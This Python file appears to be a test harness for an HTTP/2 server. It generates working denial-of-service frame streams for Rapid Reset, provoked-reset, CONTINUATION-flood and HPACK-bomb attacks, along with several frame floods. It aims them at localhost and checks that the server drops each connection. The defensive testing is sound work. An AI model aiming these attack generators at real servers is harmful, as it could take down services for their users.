# SPDX-License-Identifier: Apache-2.0
"""Attacks on an HTTP/2 server, each a generator of bytes to send until the connection is gone, with
the kind that weir_http_abuse_total has for it.

    attacks.py PORT CLIENTS    all of them at once, on so many connections, each opened again as
                               soon as it is closed, until standard input ends; prints how many
"""
import itertools
import json
import select
import selectors
import socket
import struct
import sys

from h2raw import (
    AUTHORITY, CONTINUATION, END_HEADERS, END_STREAM, GET, INITIAL_WINDOW_SIZE, NONE, PREFACE,
    SCHEME, WINDOW_MOST, Wire, block, data, frame, headers, integer, literal, opened, ping,
    priority, reset, settings, string, window_update)

WORK = json.dumps({"prompt": "Once upon a time", "max_tokens": 64, "ignore_eos": True}).encode()
ASK = block((":method", "POST"), SCHEME, (":path", "/v1/completions"), AUTHORITY,
            ("content-type", "application/json"), ("content-length", str(len(WORK))))
LIST = block((":method", "GET"), SCHEME, (":path", "/v1/models"), AUTHORITY)
BURST = 64      # frames in one piece
STREAMS = 100   # at once


def odd():
    return itertools.count(1, 2)


def pieces(frames):
    while True:
        yield b"".join(itertools.islice(frames, BURST))


def asked(stream):
    return opened(stream, ASK) + data(WORK, stream)


def rapid_reset():
    """CVE-2023-44487: work is asked for and called off before it is done."""
    return pieces(asked(stream) + reset(stream) for stream in odd())


def made_to_reset():
    """CVE-2025-8671: the server is made to call the work off, by a window past its end ..."""
    return pieces(asked(stream) + window_update(WINDOW_MOST, stream) for stream in odd())


def made_to_reset_by_heads():
    """... by a second head that does not end the stream ..."""
    return pieces(opened(stream) + headers(block(("x", "y")), stream, END_HEADERS)
                  for stream in odd())


def made_to_reset_by_lengths():
    """... or by a body longer than it was to be."""
    return pieces(opened(stream, ASK) + data(WORK + b" ", stream) for stream in odd())


def continuation():
    """CVE-2024-27316: a header block that does not end."""
    yield headers(GET, flags=END_STREAM)
    yield from pieces(frame(CONTINUATION, NONE, 1, literal("x", "y")) for _ in itertools.count())


def header_bomb():
    """An entry that fills HPACK's dynamic table, then its index, one byte each, again and again."""
    entry = b"\x40" + string(b"x") + string(b"v" * 4000)
    for stream in odd():
        yield headers(GET + entry + integer(62, 7, 0x80) * 8000, stream)


def settings_flood():
    return pieces(settings((INITIAL_WINDOW_SIZE, 60000 + n % 2)) for n in itertools.count())


def ping_flood():
    return pieces(ping() for _ in itertools.count())


def priority_flood():
    return pieces(priority(0, 1 + 2 * (n % 500)) for n in itertools.count())


def window_update_flood():
    return pieces(window_update(1) for _ in itertools.count())


def empty_data():
    """On a stream that is answered soon, and then on one that is closed."""
    yield opened()
    yield from pieces(data(b"", flags=NONE) for _ in itertools.count())


def unknown_frames():
    return pieces(frame(0xbb, 0, 0, b"?") for _ in itertools.count())


def tiny_windows():
    """Answers of some hundred bytes each, a byte at a time."""
    yield settings((INITIAL_WINDOW_SIZE, 1))
    streams = [1 + 2 * n for n in range(STREAMS)]
    for stream in streams:
        yield headers(LIST, stream)
    while True:
        yield b"".join(window_update(1, stream) for stream in streams)


ATTACKS = [
    ("reset", rapid_reset), ("provoked_reset", made_to_reset),
    ("provoked_reset", made_to_reset_by_heads), ("provoked_reset", made_to_reset_by_lengths),
    ("continuation", continuation), ("header_bomb", header_bomb), ("settings", settings_flood),
    ("ping", ping_flood), ("priority", priority_flood), ("window_update", window_update_flood),
    ("empty_frame", empty_data), ("unknown_frame", unknown_frames), ("tiny_window", tiny_windows),
]

PIECES_KEPT = 200  # of each attack, made once: the attackers shall be busy attacking
ABORT = struct.pack("ii", 1, 0)


class Attacker:
    """One connection after the other, each for the next attack."""

    def __init__(self, port, number, store):
        self._port, self._store = port, store
        self._source = f"127.0.{1 + number // 200}.{1 + number % 200}"
        self._turn = number
        self.opened = 0
        self.socket = None

    def open(self):
        self.socket = socket.socket()
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, ABORT)
        self.socket.bind((self._source, 0))
        self.socket.connect(("127.0.0.1", self._port))
        self.socket.setblocking(False)
        self._pieces = iter(self._store[self._turn % len(self._store)])
        self._piece = b""
        self._turn += 1
        self.opened += 1

    def step(self, events):
        """False once the connection is over."""
        try:
            if events & selectors.EVENT_READ and not self.socket.recv(65536):
                return False
            if events & selectors.EVENT_WRITE:
                self._piece = self._piece or next(self._pieces)
                self._piece = self._piece[self.socket.send(self._piece):]
        except BlockingIOError:
            return True
        except (OSError, StopIteration):
            return False
        return True


def keep_attacking(port, clients):
    opening = PREFACE + settings()
    store = [[opening, *itertools.islice(attack(), PIECES_KEPT)] for _, attack in ATTACKS]
    attackers = [Attacker(port, number, store) for number in range(clients)]
    with selectors.DefaultSelector() as selector:
        selector.register(sys.stdin, selectors.EVENT_READ)
        both = selectors.EVENT_READ | selectors.EVENT_WRITE
        for attacker in attackers:
            attacker.open()
            selector.register(attacker.socket, both, attacker)
        while not select.select([sys.stdin], [], [], 0)[0]:
            for key, events in selector.select(1):
                if key.data is None or key.data.step(events):
                    continue
                selector.unregister(key.data.socket)
                key.data.socket.close()
                key.data.open()
                selector.register(key.data.socket, both, key.data)
    print(sum(attacker.opened for attacker in attackers))


def fall_on(port, attack, frames_most, source=None):
    """Attacks on one connection until it is closed; returns the wire. An AssertionError when it
    still stands after so many pieces."""
    wire = Wire(port, source=source)
    for piece in itertools.islice(attack(), frames_most):
        wire.send(piece)
        while wire.next(0.001) is not None:
            pass
        if wire.closed:
            return wire
    raise AssertionError(f"it still stands; {wire.frames[-5:]}")


if __name__ == "__main__":
    keep_attacking(int(sys.argv[1]), int(sys.argv[2]))
